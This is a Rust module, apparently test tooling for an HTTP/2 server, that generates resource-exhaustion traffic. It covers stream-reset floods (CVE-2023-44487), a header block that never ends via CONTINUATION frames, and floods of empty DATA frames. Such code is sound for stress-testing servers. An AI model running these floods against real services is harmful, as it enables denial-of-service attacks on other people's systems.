//! What a client does who wants to cost more than it pays.

use std::time::Duration;

use super::{Client, request};
use crate::eventually::DEADLINE;
use crate::wire::frame::{self, Frame};
use crate::wire::hpack;

/// Sends batches until the connection ends, a `GOAWAY` comes or all are sent: how many were. That they were sent does not
/// mean that the peer has come to them.
pub fn flood(client: &mut Client, batches: usize, mut batch: impl FnMut(&mut Client) -> Vec<u8>) -> usize {
    client.patience(Duration::from_millis(1));
    let mut sent = 0;
    while sent < batches && client.is_open() && client.goaways().is_empty() {
        let bytes = batch(client);
        if client.write(&bytes).is_err() {
            break;
        }
        while client.read() {}
        sent += 1;
    }
    client.patience(DEADLINE);
    sent
}

/// The head of a request for `/attack`, in one frame.
pub fn head(stream: u32, more: &[(&str, &str)], flags: u8) -> Vec<u8> {
    let block = hpack::encode(&request("POST", "/attack", more));
    frame::headers(stream, &block, flags).iter().flat_map(Frame::bytes).collect()
}

/// Requests that are given up as soon as they are made (CVE-2023-44487).
pub fn rapid_resets(client: &mut Client, count: usize, more: &[(&str, &str)]) -> Vec<u8> {
    let one = |client: &mut Client| {
        let stream = client.next_stream();
        [head(stream, more, frame::END_STREAM), frame::reset(stream, frame::CANCEL).bytes()].concat()
    };
    (0..count).flat_map(|_| one(client)).collect()
}

/// Begins a header block that does not end, and says what its other pieces of `size` bytes are.
pub fn endless_head(client: &mut Client, size: usize) -> Vec<u8> {
    let stream = client.next_stream();
    let begin = Frame::new(frame::HEADERS, 0, stream, hpack::encode(&request("GET", "/attack", &[])));
    client.send(&begin);
    Frame::new(frame::CONTINUATION, 0, stream, vec![0; size]).bytes()
}

/// Begins a request, and says what a frame of it is that carries nothing.
pub fn empty_content(client: &mut Client, more: &[(&str, &str)]) -> Vec<u8> {
    let stream = client.open(&request("POST", "/attack", more), false);
    frame::data(stream, b"", 0).bytes()
}
